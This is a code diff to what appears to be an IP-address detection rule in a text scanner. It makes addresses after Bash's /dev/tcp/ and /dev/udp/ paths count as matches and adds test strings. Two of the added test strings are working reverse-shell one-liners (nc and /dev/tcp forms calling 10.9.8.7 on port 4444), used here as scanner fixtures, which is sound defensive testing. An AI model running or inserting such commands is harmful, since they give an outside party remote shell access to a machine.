@@ -147,7 +147,8 @@ def _plausible(text: str, start: int, end: int, dot: str) -> bool:
     ):
         return False
     if _is_rather_a_version(numbers) and ".".join(octets) not in _WELL_KNOWN and not padded and dot != "[.]":
-        if text[start - 1 : start] == "/" and text[start - 2 : start] not in ("", "//"):
+        folder = text[start - 1 : start] == "/" and text[start - 2 : start] not in ("", "//")
+        if folder and not text.endswith(_SOCKETS_OF_BASH, 0, start):
             return False  # a folder of a site's downloads
         # Something on the line must speak of a network.
         after = text[end : end + 2]
@@ -155,6 +156,10 @@ def _plausible(text: str, start: int, end: int, dot: str) -> bool:
         around = line + text[end : line_after(text, end)]
         return after[:1] in ("/", ":") and after[1:].isdigit() or _speaks_of_network(around)
     return True
+
+
+_SOCKETS_OF_BASH = ("/dev/tcp/", "/dev/udp/")
+"""Files by whose names Bash connects to a host: `/dev/tcp/HOST/PORT`."""
 
 
 def _is_object_identifier(numbers: Sequence[int]) -> bool:
@@ -366,6 +371,8 @@ RULE = Rule(
         "主机«192.168.1.2»通过 «FE80::1234:56FF:FE78:9ABC»通过",
         "jroe (x@gateway/web/example/ip.«198.51.100.7») has joined",
         "nmap -sC -sV «10.1.2.9»",
+        "c=cat+/tmp/f|sh+-i+2>%261|nc+«10.9.8.7»+4444+>/tmp/f",
+        "bash -i >& /dev/tcp/«10.9.8.7»/4444 0>&1; exec 5<>/dev/udp/«1.2.3.5»/53",
         "«2001:db8:85a3:0000:0000:8a2e:0370:7334», «192.0.2.7»",
         "x «1.2.3.5»/8 x",
         "g..........................................«fe80::1»",
@@ -376,6 +383,7 @@ RULE = Rule(
     ),
     misses=(
         "- needs runtime >= 10.0.22.1",
+        "version 1.2.3.4+5, tool 10.9.8.7+4444, /dev/tool/1.2.3.5/x, /dev/tool/10.9.8.7/x",
         "curl https://example.org/tool/0.1.50.1/x86_64-tool-0.1.50.1",
         "+## [10.107.4.1] - 2026-03-02\n| core | 10.2.0.14 | core-1.12.2-10.2.0.14.jar |",
         "## [10.107.4.1] - 2026-03-02\n### 10.107.4.2\nServer 10.5.5.13 (build 20180112)",
